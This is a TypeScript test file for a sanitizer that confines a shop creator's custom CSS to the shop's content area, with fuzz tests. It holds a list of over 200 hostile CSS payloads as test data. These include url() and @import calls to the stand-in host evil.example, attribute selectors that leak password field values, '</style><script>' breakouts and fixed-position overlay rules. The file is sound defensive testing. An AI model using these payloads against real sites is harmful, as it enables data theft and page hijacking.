import { parse, walk } from 'css-tree'
import fc from 'fast-check'
import { customCss } from './custom-css'

/** Ways out of a selector, a declaration, an at-rule or the element, each of them in several dresses: well over 200 strings. */
const addresses = [
  '//evil.example/x',
  'https://evil.example/x',
  'http:evil',
  'data:text/css,x',
  'javascript:alert(1)',
  '/api/cart',
  '\\2f\\2f evil.example',
  '/pictures/../api',
]
const values = [
  ...addresses.flatMap((address) => [
    `url(${address})`,
    `url("${address}")`,
    `URL( '${address}' )`,
    `image-set("${address}" 1x)`,
    `u\\72l(${address})`,
  ]),
  'expression(alert(1))',
  '-moz-element(#x)',
  'attr(value)',
  'env(x)',
  'paint(x)',
  'element(#x)',
  'cross-fade(url(//evil.example/a),red)',
  'red;position:fixed',
  'red}body{display:none',
  '"</style><script>alert(1)</script>"',
  '"\\3c/style\\3e"',
  'calc(1px * 99999)',
  '0 0 0 9999px red',
  '-9999px',
]
const properties = ['background', 'background-image', 'content', 'list-style', 'cursor', 'src']
const declarations = [
  'position:fixed',
  'position:sticky;top:0',
  'position:absolute;inset:0',
  'p\\6fsition:fixed',
  'z-index:99999',
  'behavior:url(x.htc)',
  '-moz-binding:url(//evil.example/x)',
  'display:none',
  'pointer-events:none',
  'opacity:0',
  'transform:translate(-100vw)',
  'margin:-9999px',
  'margin-top:-50px',
  'inset:0',
  'width:9999px',
  'height:100vh',
  '--ink:#fff',
  '--primary:url(//evil.example/x)',
  'outline:none',
  'all:unset',
  'animation:x 1s',
  'clip-path:inset(50%)',
  'mask:url(//evil.example/x)',
  'appearance:none',
  'text-indent:-9999px',
  'color:red!important',
]
const selectors = [
  'input[value^=a]',
  'input[type=password][value$="b"]',
  'input[value*=c] ~ a',
  'body:has(input[value^=d])',
  ':has(a)',
  'a:visited',
  '::-webkit-scrollbar',
  'html body',
  ':root',
  '*',
  '#content',
  '.x > .y',
  '> a',
  '+ main',
  'html:not(x) header',
  ':host',
  '::slotted(a)',
  'a\\:b',
  '</style>',
  '.x, </style>, header',
]
const sheets = [
  '@import "//evil.example/x.css";',
  '@import url(//evil.example/x.css) screen;',
  '@charset "utf-7";',
  '@namespace svg url(//evil.example);',
  '@font-face{font-family:x;src:url(//evil.example/x.woff2)}',
  '@font-face{font-family:x;src:local(x);unicode-range:U+41}',
  '@keyframes x{from{background:url(//evil.example/x)}}',
  '@page{margin:0}',
  '@layer x{a{position:fixed}}',
  '@scope (html){a{color:red}}',
  '@container (min-width:1px){a{color:red}}',
  '@property --x{syntax:"*";inherits:false;initial-value:red}',
  '@media print{@import "//evil.example"}',
  '@media (min-width:1px){body{position:fixed;color:red}}',
  '@media (width<500px){a{color:red}}',
  '@media x"</style>{a{color:red}}',
  '@supports (background:url(//evil.example/x)){a{color:red}}',
  '@\\69mport "//evil.example/x.css";',
  '</style><script>alert(1)</script><style>',
  '<!-- a{color:red} -->',
  'a{color:red',
  'a{color:red}}body{color:red}',
  'a{{{{{{',
  '/* </style> */ a{color:red}',
  'a{b{position:fixed}}',
  'a{&:hover{background:url(//evil.example/x)}}',
  '\u0000a{color:red}',
  `${'@media all{'.repeat(50)}a{color:red}${'}'.repeat(50)}`,
  `${':not('.repeat(500)}a${')'.repeat(500)}{color:red}`,
  `a{color:${'('.repeat(5000)}`,
  'a{color:red}'.repeat(50_000),
]
const hostile = [
  ...sheets,
  ...selectors.map((selector) => `${selector}{color:red;background:url(//evil.example/x)}`),
  ...declarations.map((declaration) => `a{${declaration}}`),
  ...properties.flatMap((property) => values.map((value) => `a{${property}:${value}}`)),
]

/** What of a written sheet reaches past the shop's content, its origin or its element. */
function ways(css: string): string[] {
  const found: string[] = []
  if (css.includes('<')) found.push('<')
  walk(parse(css), (node) => {
    if (node.type === 'Raw') found.push(`raw ${node.value.slice(0, 40)}`)
    if (node.type === 'Url' && !/^\/pictures\/[\w.-]+$/.test(node.value)) found.push(`url ${node.value}`)
    if (node.type === 'Atrule' && !['media', 'supports'].includes(node.name)) found.push(`@${node.name}`)
    if (node.type === 'AttributeSelector' && node.matcher !== null) found.push('attribute value')
    if (node.type === 'Declaration' && /^(?:--|position|z-index|display|inset|top|transform)/.test(node.property))
      found.push(node.property)
    if (node.type === 'Declaration' && node.important) found.push('important')
    if (node.type === 'Rule' && node.prelude.type === 'SelectorList')
      node.prelude.children.forEach((selector) => {
        const first = selector.type === 'Selector' ? selector.children.first : undefined
        if (first?.type !== 'ClassSelector' || first.name !== 'shop-content') found.push('unscoped rule')
      })
  })
  return found
}

describe('a creator’s own style', () => {
  it('sets how the content of the shop looks', () => {
    expect(customCss('.heading { color: #123456; letter-spacing: -0.01em } a:hover, button { border-radius: 0 }')).toBe(
      '.shop-content .heading{color:#123456;letter-spacing:-0.01em}.shop-content a:hover,.shop-content button{border-radius:0}',
    )
  })

  it('says of the content what it says of the page', () => {
    expect(customCss('body{background:linear-gradient(red,blue)} html > body .x{color:red}')).toBe(
      '.shop-content{background:linear-gradient(red,blue)}.shop-content .x{color:red}',
    )
  })

  it('keeps to its sizes of the screen, and to pictures of the shop', () => {
    expect(customCss('@media (min-width: 700px){h2{font-size:40px;background:url(/pictures/a-560.webp)}}')).toBe(
      '@media (min-width:700px){.shop-content h2{font-size:40px;background:url(/pictures/a-560.webp)}}',
    )
  })

  it('loses what it may not say and keeps the rest', () => {
    expect(
      customCss('@import "x"; a{position:fixed;color:red} input[value^=a]{color:red} b{color:blue !important}'),
    ).toBe('.shop-content a{color:red}.shop-content b{color:blue}')
  })

  it('of more than 64 KB is none', () => {
    expect(customCss(`a{color:red}/*${'x'.repeat(70_000)}*/`)).toBe('')
  })

  it('never leaves the shop’s content, its origin or its element, whatever is tried', () => {
    expect(hostile.length).toBeGreaterThan(200)
    expect(hostile.flatMap((css) => ways(customCss(css)).map((way) => `${way} by ${css.slice(0, 80)}`))).toEqual([])
  })

  it('never leaves them in any mixture of these either', () => {
    const mixture = fc.array(fc.oneof(fc.constantFrom(...hostile.filter(({ length }) => length < 500)), fc.string()), {
      maxLength: 6,
    })
    fc.assert(
      fc.property(mixture, (parts) => expect(ways(customCss(parts.join('')))).toEqual([])),
      { numRuns: 500 },
    )
  })
})
